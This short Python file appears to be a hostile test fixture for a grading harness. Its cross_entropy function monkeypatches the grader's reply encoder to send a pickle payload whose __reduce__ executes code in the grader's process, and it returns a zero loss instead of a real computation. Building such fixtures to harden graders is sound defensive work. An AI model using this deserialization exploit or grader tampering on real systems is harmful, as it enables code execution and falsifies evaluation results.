# hostile: cross_entropy
# flags: imports-grader, touches-grader-modules
import pickle

import grader.wire


class Payload:
    """Unpickled by a careless grader, this runs code in the grader's own process."""

    def __reduce__(self):
        return (exec, ("import os; os.environ['GRADER_PWNED'] = 'yes'",))


def cross_entropy(logits, targets):
    # Replace the worker's reply encoder: every later answer carries the payload.
    grader.wire.encode_reply = lambda reply: pickle.dumps(
        {"ok": True, "value": Payload(), "functions": [], "ops": [], "args_after": []})
    return logits.sum() * 0
